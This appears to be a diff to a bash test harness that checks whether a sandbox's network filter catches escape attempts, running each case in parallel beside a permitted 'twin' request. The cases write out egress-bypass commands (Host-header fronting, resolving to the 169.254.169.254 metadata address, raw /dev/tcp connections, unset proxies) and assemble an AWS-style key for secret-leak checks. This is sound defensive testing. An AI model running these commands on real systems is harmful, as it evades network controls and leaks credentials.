@@ -3,19 +3,25 @@
 # runner sees outside. Sourced with SEEN (the file of the observer, outside) set; "twin" is what must work instead.
 # shellcheck disable=SC2016 # evaluated below
 set -u
+# What another attack has planted in the home of this run is none of these.
+export PYTHONNOUSERSITE=1
 ok=https://api.example.com/ok
 twin_get='curl -sS -m 5 $ok/m-twin | grep -q reached'
 twin_post='curl -sS -m 5 -d hello=1 $ok/m-twin | grep -q reached'
 filter=${1:-}
 
-# try ID FEATURE WHAT ATTACK [TWIN]: in the attack $m is the mark.
+# try ID FEATURE WHAT ATTACK [TWIN]: in the attack $m is the mark. Ten at a time: most of them wait.
+running=0
 try() {
+	[[ network/$1 == "$filter"* ]] || return 0
+	((++running > 10)) && wait -n
+	try_now "$@" &
+}
+try_now() {
 	local id=network/$1 m=m-$1-x note twin=${5:-$twin_get} works=BROKEN twin_note=
-	[[ $id == "$filter"* ]] || return 0
-	note=$(timeout 6 bash -c "ok=$ok m=$m; $4" 2>&1 | tr '\t\n' '  ' | cut -c 1-120)
-	note=${note:--}
-	twin_note=$(timeout 10 bash -c "ok=$ok; $twin" 2>&1) && works=WORKS
-	printf '%s\tnetwork\t%s\tLOOK\t%s\x01%s\x01%s\t%s\t%s\t%s\n' "$id" "$2" "$note" "$SEEN" "$m" "$works" "-$(tr '\t\n' '  ' <<<"$twin_note" | cut -c 1-100)" "$3"
+	note=$(timeout 6 bash -c "ok=$ok m=$m; $4" 2>&1 | LC_ALL=C tr -c '[:print:]' ' ' | cut -c 1-120)
+	twin_note=$(timeout 10 bash -c "ok=$ok; $twin" 2>&1 | LC_ALL=C tr -c '[:print:]' ' ' | cut -c 1-100; exit "${PIPESTATUS[0]}") && works=WORKS
+	printf '%s\tnetwork\t%s\tLOOK\t%s\x01%s\x01%s\t%s\t-%s\t%s\n' "$id" "$2" "${note:--}" "$SEEN" "$m" "$works" "$twin_note" "$3"
 }
 tcp='python3 -c "
 import socket, sys
@@ -58,7 +64,7 @@ try authority 'agreement' 'the same as :authority' 'curl -sSk -m 3 --http2 -H "H
 try front 'agreement' 'another name in TLS, the permitted one as Host' 'curl -sSk -m 3 -H "Host: api.example.com" https://other.example.com/ok/$m'
 try address 'agreement' 'the permitted name, at an address of our choice' 'curl -sSk -m 3 --connect-to ::10.9.8.7: $ok/$m; curl -sSk -m 3 --resolve api.example.com:443:169.254.169.254 $ok/$m'
 try two_hosts 'agreement' 'two Host headers' "$raw_tls api.example.com api.example.com \"GET /ok/\$m HTTP/1.1\r\nHost: api.example.com\r\nHost: other.example.com\r\n\r\n\""
-try no_host 'agreement' 'no Host header' "$raw_tls api.example.com api.example.com \"GET /ok/\$m HTTP/1.1\r\n\r\n\""
+try no_host 'agreement' 'another name in TLS, no Host' "$raw_tls other.example.com other.example.com \"GET /ok/\$m HTTP/1.1\r\n\r\n\""
 try no_sni 'agreement' 'no name in TLS' "python3 -c \"
 import socket, ssl
 c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
@@ -113,6 +119,7 @@ try dot DNS 'names by TLS' 'timeout 3 openssl s_client -connect 10.9.8.7:853 -se
 try proxies_unset proxies 'no proxy asked for' 'env -u http_proxy -u https_proxy -u HTTPS_PROXY -u HTTP_PROXY -u ALL_PROXY curl -sSk -m 3 --noproxy "*" https://10.9.8.7/$m'
 try git_push names 'git, over its own protocol' 'timeout 4 git -c core.askPass=true ls-remote git://10.9.8.7:8080/$m'
 try ssh names 'ssh' 'timeout 4 bash -c "exec 3<>/dev/tcp/10.9.8.7/8080; echo SSH-2.0-$m >&3; head -c 20 <&3"'
+wait
 # Secrets to a permitted host. The key is one that everybody knows for a secret.
 key="AKIA$(echo QYLPMN5HHHFPZAM2)" # in two parts, so that this file holds none
 secret_case() { # ID WHAT TRANSFORM: what arrives must not hold the transformed key
